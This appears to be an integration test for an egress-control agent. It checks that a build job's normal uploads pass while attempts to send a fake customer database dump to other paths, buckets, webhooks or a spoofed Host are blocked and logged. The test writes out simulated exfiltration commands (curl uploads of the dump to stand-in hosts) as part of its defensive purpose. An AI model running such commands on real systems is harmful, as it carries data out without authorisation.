/**
 * A build job that carries data off: an agent in a network namespace, servers in another, curl as it is. Its usual
 * uploads pass; a dump sent to an unknown bucket, a webhook or an artifact store does not leave.
 */
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { type Ran, startTestAgent, type TestAgent } from "../support/agent.ts";
import { type NamedOrigin, startNamedOrigin } from "../support/named-origin.ts";
import { makeNamespacePair, type NamespacePair } from "../support/namespace.ts";

const names = [
  ...["uploads.internal", "artifacts.internal", "hooks.internal", "mirror.internal"],
  ...["builds.buckets.internal", "drop.buckets.internal"],
];

describe("what a job may carry off", { skip: process.getuid?.() === 0 ? false : "needs root" }, () => {
  let net: NamespacePair;
  let origin: NamedOrigin;
  let agent: TestAgent;

  before(async () => {
    net = await makeNamespacePair("egress");
    origin = await startNamedOrigin(net.b, names);
    agent = await startTestAgent({
      namespace: net.a,
      wrap: origin.withNames([]),
      policy: `apiVersion: weir/v1
targets:
  uploads: { protocol: http, hosts: [uploads.internal], tls: { verify: full, ca: ${origin.caPath} } }
  artifacts: { protocol: http, hosts: [artifacts.internal], tls: { verify: full, ca: ${origin.caPath} } }
  buckets: { protocol: http, hosts: [builds.buckets.internal, drop.buckets.internal], tls: { verify: full, ca: ${origin.caPath} } }
rules:
  - { name: own-bucket, match: { host: builds.buckets.internal, method: PUT, bytes: { under: 1000000 } }, verdict: allow }
  - name: usual-uploads
    match: { target: uploads, method: PUT, path: "/builds/*", bytes: { under: 1000000 } }
    verdict: allow
  - { name: reads, match: { method: [GET, HEAD] }, verdict: allow }
  - name: no-other-uploads
    match: { method: { not: [GET, HEAD] } }
    verdict: deny
    reason: Only builds are uploaded from here, to uploads.internal/builds/.
`,
    });
  });

  after(async () => {
    await agent?.remove();
    await origin?.stop();
    await net?.remove();
  });

  const curl = (...words: string[]): Promise<Ran> =>
    agent.run(["curl", "-sS", "--max-time", "120", "-w", "\n%{http_code}", ...words]);

  test("the usual upload passes, and reading does", async () => {
    const file = join(agent.stateDir, "build.tar");
    writeFileSync(file, "x".repeat(5000));
    const said = await curl("-T", file, "https://uploads.internal/builds/1.tar");
    assert.match(said.stdout, /PUT \/builds\/1\.tar 5000\n200$/, said.stderr);
    assert.match((await curl("https://artifacts.internal/list")).stdout, /GET \/list 0\n200$/);
  });

  test("a dump to another place of a known server is denied before a byte of it leaves", async () => {
    const file = join(agent.stateDir, "dump.sql");
    writeFileSync(file, `COPY customers FROM stdin;\n${"1\tsecret\n".repeat(500_000)}`);
    const before = (await origin.seen()).length;
    for (const url of ["https://uploads.internal/other/1", "https://artifacts.internal/put"]) {
      const said = await curl("-T", file, url);
      assert.match(said.stdout, /rule "no-other-uploads": Only builds are uploaded from here/);
      assert.match(said.stdout, /403$/);
    }
    const slow = await curl("-T", file, "https://uploads.internal/builds/2.tar");
    assert.match(slow.stdout, /403$/, "over its size");
    assert.equal((await origin.seen()).length, before);
  });

  test("an unknown bucket and a webhook are not reached at all", async () => {
    const before = (await origin.seen()).length;
    for (const url of ["https://hooks.internal/x", "https://mirror.internal/x"]) {
      const said = await curl("-d", "dump", url);
      assert.notEqual(said.code, 0);
    }
    assert.equal((await origin.seen()).length, before);
  });

  test("of one provider's buckets the own one takes builds, another none, and nothing whose length is not told", async () => {
    const build = join(agent.stateDir, "build.tar");
    writeFileSync(build, "x".repeat(5000));
    const own = await curl("-T", build, "https://builds.buckets.internal/1.tar");
    assert.match(own.stdout, /PUT \/1\.tar 5000\n200$/, own.stderr);
    const before = (await origin.seen()).length;
    const other = await curl("-T", build, "https://drop.buckets.internal/1.tar");
    assert.match(other.stdout, /rule "no-other-uploads"[\s\S]*403$/);
    const streamed = await agent.run(
      ["curl", "-sS", "--max-time", "120", "-w", "\n%{http_code}", "-T", "-", "https://builds.buckets.internal/2.tar"],
      { input: "1\tsecret\n".repeat(500_000) },
    );
    assert.match(streamed.stdout, /403$/, streamed.stderr);
    assert.equal((await origin.seen()).length, before);
  });

  test("a known name's connection cannot ask for another host", async () => {
    const said = await curl("-H", "Host: hooks.internal", "https://uploads.internal/x");
    assert.match(said.stdout, /host-mismatch/);
    assert.match(said.stdout, /403$/);
  });

  test("who did it stands in the record", async () => {
    const { stdout } = await agent.weir(["export"]);
    const denied = stdout
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as { type: string; fields: Record<string, unknown> })
      .filter(({ type, fields }) => type === "Operation" && fields["action"] === "deny");
    assert.ok(denied.length >= 4);
    assert.ok(denied.some(({ fields }) => String(fields["text"]).includes("PUT https://uploads.internal/other/1")));
    assert.match((await agent.weir(["verify"])).stdout, /ok|good|verif/i);
  });
});
